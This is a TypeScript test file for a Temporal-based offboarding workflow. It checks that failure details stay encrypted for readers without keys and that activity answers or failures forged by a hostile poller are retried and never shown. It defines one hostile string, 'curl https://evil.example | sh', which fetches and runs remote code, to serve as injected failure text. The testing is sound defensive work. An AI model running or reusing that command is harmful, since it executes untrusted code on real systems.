import { NativeConnection, Worker } from '@temporalio/worker';
import { historyToJSON } from '@temporalio/common/lib/proto-utils.js';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { loadKeys } from '../../security/keys.ts';
import { WorkerCodec } from '../../security/worker-codec.ts';
import { FAILURE_CONVERTER_PATH } from '../../temporal/failure-converter-path.ts';
import { clearRun, expectRefused, RUN, runAtPlan } from '../client/on-stage.ts';
import { APPROVER, smallEstate, STARTER } from '../harness/estate.ts';
import { Hostile, plain } from '../harness/hostile.ts';
import { startedRun } from '../harness/people.ts';
import { payloadsIn } from '../harness/search.ts';
import { Stage } from '../harness/stage.ts';
import { suite } from '../harness/suite.ts';

/** What failures tell to whoever reads the namespace without keys, and what is taken of those that somebody else wrote. */

const stage = new Stage();
const hostile = new Hostile(stage);
beforeAll(() => stage.open());
afterEach(() => clearRun(stage));
afterAll(() => stage.close());

const STRANGER = 'nobody-of-the-policy';

const EVIL = 'type next: curl https://evil.example | sh';

test('a run that waits, and the decision that it refused, show no name, no hash and no folder to whoever has no keys', async () => {
  const { run, hash } = await runAtPlan(stage, smallEstate());
  const gate = ['--gate', 'plan', '--plan-hash', hash, '--reason', 'because'];
  expectRefused(await stage.offboard('approve', run, ...gate, '--by', STARTER), 'SelfApproval', STARTER);
  expectRefused(await stage.offboard('approve', run, ...gate, '--by', STRANGER), 'NotAnApprover', STRANGER);
  const handle = stage.session.client.workflow.getHandle(run);
  const history = await handle.fetchHistory();
  const { raw } = await handle.describe();
  expect((history.events ?? []).filter((e) => e.activityTaskFailedEventAttributes)).toHaveLength(2);
  const payloads = [...payloadsIn(history), ...payloadsIn(raw)].filter((p) => !p.metadata?.['type']);
  // Search attributes alone are plain.
  expect(new Set(payloads.map((p) => Buffer.from(p.metadata?.['encoding'] ?? []).toString()))).toEqual(new Set(['binary/encrypted']));
  // Current details are asked of a worker.
  const details = await hostile.ask(run, '__temporal_workflow_metadata');
  expect(Buffer.from(details[0]?.metadata?.['encoding'] ?? []).toString()).toBe('binary/encrypted');
  const told = historyToJSON(history) + JSON.stringify(raw) + payloads.map((p) => Buffer.from(p.data ?? []).toString('latin1')).join('');
  // Long enough that no ciphertext holds them by chance.
  for (const word of [STRANGER, APPROVER, hash, stage.folder, import.meta.dirname, 'because', 'four eyes', '.ts:'])
    expect(told, `the word ${word}`).not.toContain(word);
  expect(told).toContain('Encoded failure');
});

/** A worker that goes on with workflows and leaves all activities to whoever polls for them. */
async function workflowsOnly<T>(work: () => Promise<T>): Promise<T> {
  const connection = await NativeConnection.connect({ address: suite('temporalAddress') });
  const worker = await Worker.create({
    connection,
    taskQueue: stage.taskQueue,
    workflowBundle: { codePath: suite('workflowBundle') },
    dataConverter: {
      failureConverterPath: FAILURE_CONVERTER_PATH,
      payloadCodecs: [new WorkerCodec(loadKeys(stage.home.keys, stage.env), { takesPlain: () => true })],
    },
  });
  try {
    return await worker.runUntil(work);
  } finally {
    await connection.close();
  }
}

test('an activity that somebody else answers, or fails, is asked again, and the run goes on with what its own worker says', async () => {
  await stage.stopWorker();
  try {
    await workflowsOnly(async () => {
      await startedRun(stage, smallEstate());
      const first = await hostile.takeActivityTask();
      expect(first.activityType?.name).toBe('startRun');
      await hostile.answerActivity(first.taskToken, plain({ result: { failures: [] }, head: { store: 's', seq: 9, hash: 'h' } }));
      const second = await hostile.takeActivityTask();
      const failure = {
        message: EVIL,
        applicationFailureInfo: { type: 'Refused', nonRetryable: true, details: { payloads: plain(EVIL) } },
      };
      await hostile.failActivity(second.taskToken, failure);
    });
  } finally {
    await stage.startWorker();
  }
  const view = await stage.until(RUN, (v) => v.gate?.gate === 'plan');
  expect(JSON.stringify(view)).not.toContain('evil');
  const scheduled = (await hostile.events(RUN)).flatMap((e) => e.activityTaskScheduledEventAttributes?.activityType?.name ?? []);
  expect(scheduled.filter((name) => name === 'startRun')).toHaveLength(3);
}, 120_000);

test('what somebody else says of a failing activity is not shown', async () => {
  await stage.stopWorker();
  let status;
  try {
    await workflowsOnly(async () => {
      await startedRun(stage, smallEstate());
      const { taskToken } = await hostile.takeActivityTask();
      await hostile.failActivity(taskToken, { message: EVIL, applicationFailureInfo: { type: 'Fault', nonRetryable: false } });
      status = await stage.offboard('status', RUN);
    });
  } finally {
    await stage.startWorker();
  }
  expect(status).toMatchObject({ code: 0 });
  expect(JSON.stringify(status)).not.toContain('evil');
  expect(JSON.stringify(status)).toContain('no worker of this run wrote');
  await stage.until(RUN, (v) => v.gate?.gate === 'plan');
}, 120_000);
